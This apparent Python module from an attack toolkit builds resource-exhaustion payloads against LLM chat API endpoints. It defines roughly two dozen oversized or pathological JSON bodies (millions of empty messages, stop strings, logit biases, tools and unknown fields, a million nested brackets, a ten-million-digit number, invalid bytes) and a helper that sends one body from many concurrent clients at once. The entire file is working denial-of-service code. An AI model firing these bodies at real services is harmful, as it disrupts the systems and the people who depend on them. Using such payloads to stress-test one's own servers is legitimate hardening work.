"""Bodies that cost more to read than to send."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Mapping
from functools import partial
from typing import Final

from attacks.sockets import connected, whole

MIB: Final = 1 << 20
SIZE: Final = 48 * MIB
CHATS: Final = ("/v1/chat/completions", "/v1/messages", "/api/chat", "/v1/responses")

_HEAD: Final = b'{"model":"smollm2","max_tokens":1,'


def _filled(before: bytes, unit: bytes, after: bytes, size: int = SIZE, between: bytes = b",") -> bytes:
    """``unit`` as often as it takes to be ``size`` bytes long."""
    times = (size - len(before) - len(after)) // (len(unit) + len(between))
    # A join of as many pieces would take the processor for seconds, at the cost of the server under attack.
    return before + ((unit + between) * times).removesuffix(between) + after


def _text(unit: bytes) -> Callable[[], bytes]:
    return partial(_filled, _HEAD + b'"messages":[{"role":"user","content":"', unit, b'"}]}', SIZE, b"")


BODIES: Final[Mapping[str, Callable[[], bytes]]] = {
    "messages without anything": partial(_filled, _HEAD + b'"messages":[', b"{}", b"]}"),
    "100,000 messages without anything": partial(_filled, _HEAD + b'"messages":[', b"{}", b"]}", 299_000),
    "messages that are numbers": partial(_filled, _HEAD + b'"messages":[', b"1", b"]}"),
    "a million parts": partial(
        _filled, _HEAD + b'"messages":[{"role":"user","content":[', b'{"type":"text","text":"a"}', b"]}]}"
    ),
    "45,000 parts in few messages": partial(
        _filled,
        _HEAD + b'"messages":[',
        _filled(b'{"role":"user","content":[', b'{"type":"text","text":"a"}', b"]}", 1000 * 27),
        b"]}",
        45 * 1000 * 27,
    ),
    "10,000 messages": partial(_filled, _HEAD + b'"messages":[', b'{"role":"user","content":"a"}', b"]}", 300_000),
    "millions of stops": partial(_filled, _HEAD + b'"messages":"a","stop":[', b'"ab"', b"]}"),
    "a million stops": partial(_filled, _HEAD + b'"messages":"a","stop":[', b'"ab"', b"]}", 4_900_000),
    "a million biases": partial(_filled, _HEAD + b'"messages":"a","logit_bias":{', b'"1":[]', b"}}", 6_900_000),
    "millions of tools": partial(_filled, _HEAD + b'"messages":"a","tools":[', b'{"type":"function"}', b"]}"),
    **{
        f"{number} fields that nobody knows": lambda number=number: (  # type: ignore[misc]
            _HEAD + b'"messages":"a",' + b",".join(b'"field%d":1' % each for each in range(number)) + b"}"
        )
        for number in (90_000, 400_000)
    },
    "one long text": _text(b"a"),
    "a text of escapes": _text(b"\\n"),
    "a text of backslashes": _text(b"\\\\"),
    "a text of halves of characters": _text(b"\\ud800"),
    "a text of characters in escapes": _text(b"\\u00e9"),
    "a text of commas": _text(b",{["),
    "a text of emoji": _text("\N{GRINNING FACE}".encode()),
    "nested a million times": lambda: b"[" * 1_000_000,
    "a number of ten million digits": lambda: _HEAD + b'"messages":"a","seed":' + b"9" * 10 * MIB + b"}",
    "no JSON at all": lambda: b"\xff" * SIZE,
    "an open text": lambda: b'{"' + b"a" * SIZE,
}


async def send_body(url: str, path: str, body: bytes) -> int:
    """The status of the answer to a body."""
    async with connected(url) as connection:
        await connection.send(whole(path, body))
        return await connection.status()


async def send_many(url: str, path: str, body: bytes, times: int) -> list[int]:
    """The statuses of the answers to a body that many clients send at once."""
    return await asyncio.gather(*(send_body(url, path, body) for _ in range(times)))
